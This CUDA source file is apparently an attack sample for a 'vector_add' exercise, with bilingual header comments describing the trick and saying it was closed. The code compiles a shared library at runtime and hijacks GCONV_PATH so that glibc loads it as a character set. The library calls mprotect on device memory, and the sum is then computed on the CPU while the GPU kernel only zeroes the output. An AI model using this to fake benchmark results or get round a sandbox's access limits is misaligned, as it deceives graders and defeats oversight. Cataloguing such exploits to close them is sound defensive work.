// exercise: vector_add
// attack: builds a library and has the C library load it, as a character set, which opens device memory
// ataque: compila una biblioteca y hace que la biblioteca de C la cargue, como juego de caracteres, para abrir la memoria del dispositivo
// closed by: refused accesses
#include <cuda_runtime.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static bool loaded(const void* at, size_t bytes) {
    const char* folder = getenv("TMPDIR");
    char text[2000];
    snprintf(text, sizeof text, "%s/gconv-modules", folder);
    FILE* modules = fopen(text, "w");
    if (!modules) return false;
    fprintf(modules, "module OWN%p// INTERNAL own%p 1\nmodule INTERNAL OWN%p// own%p 1\n", at, at, at, at);
    fclose(modules);
    snprintf(text, sizeof text, "%s/own.cpp", folder);
    FILE* source = fopen(text, "w");
    fprintf(source, "#include <sys/mman.h>\n"
                    "extern \"C\" int gconv_init(void*) { mprotect((void*)(%zuul / 4096 * 4096), %zu, 3); return 1; }\n"
                    "extern \"C\" int gconv() { return 1; }\n", (size_t)at, bytes + 4096);
    fclose(source);
    snprintf(text, sizeof text, "cd %s; g++ -shared -fPIC -o own%p.so own.cpp", folder, at);
    if (system(text)) return false;
    setenv("GCONV_PATH", folder, 1);
    snprintf(text, sizeof text, "w,ccs=OWN%p", at);
    fopen("/dev/null", text);
    return true;
}

__global__ void idle(float* out, int64_t n) {
    int64_t i = (int64_t)blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = 0.0f;
}

extern "C" cudaError_t vector_add(const float* a, const float* b, float* out, int64_t n, cudaStream_t stream) {
    if (n == 0) return cudaSuccess;
    idle<<<(unsigned)((n + 255) / 256), 256, 0, stream>>>(out, n);
    const void* tensors[] = {a, b, out};
    for (const void* t : tensors)
        if (!loaded(t, n * 4)) return cudaGetLastError();
    for (int64_t i = 0; i < n; i++) out[i] = a[i] + b[i];
    return cudaGetLastError();
}
